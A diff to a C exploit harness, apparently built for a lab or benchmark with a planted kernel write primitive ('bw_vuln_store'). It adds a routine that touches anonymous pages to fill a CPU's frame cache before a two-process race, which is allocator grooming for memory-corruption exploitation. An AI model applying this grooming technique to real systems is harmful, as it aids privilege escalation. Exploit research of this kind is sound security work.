@@ -12,7 +12,7 @@
 
 enum { CPU_OF_SECOND, CPU_OF_FIRST, NR_CPUS };
 enum { STAGE_READY = 1, STAGE_TAKE, STAGE_TAKEN, STAGE_GIVE, STAGE_GIVEN, STAGE_OVER };
-enum { NUMBER_BYTES = 4 };
+enum { NUMBER_BYTES = 4, NR_TO_TOUCH = 16 };
 
 /* In memory that both processes have. */
 static struct shared {
@@ -28,8 +28,19 @@ static void store32(uint64_t at, uint64_t value)
 	attack_check("vuln_store", bw_vuln_store(at, value, NUMBER_BYTES));
 }
 
-/* A page that is not there yet; its page table is, and the processor's stock is filled. */
+/* A page that is not there yet; its page table is. */
 static char *page_to_come(void) { return (char *)attack_ranges(false) + BW_PAGE_SIZE; }
+
+/* A processor's stock of frames is filled when a page is touched and the stock is empty. */
+static void fill_stock(const struct bw_stock *stock)
+{
+	char *page = mmap(NULL, (size_t)NR_TO_TOUCH * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
+			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	for (int i = 0; page != MAP_FAILED && i < NR_TO_TOUCH && read32(stock->nr) == 0; i++) {
+		*(volatile char *)(page + i * BW_PAGE_SIZE) = 1;
+	}
+}
 
 /* The other process. */
 static _Noreturn void be_first(void)
@@ -39,6 +50,7 @@ static _Noreturn void be_first(void)
 	attack_pin(CPU_OF_FIRST);
 	page = page_to_come();
 	attack_leak(&shared->of_first);
+	fill_stock(&shared->of_first.frame_cache);
 	attack_tell(&shared->stage, STAGE_READY);
 	attack_await(&shared->stage, STAGE_TAKE, AWAIT_SPIN);
 	*(volatile char *)page = 1;
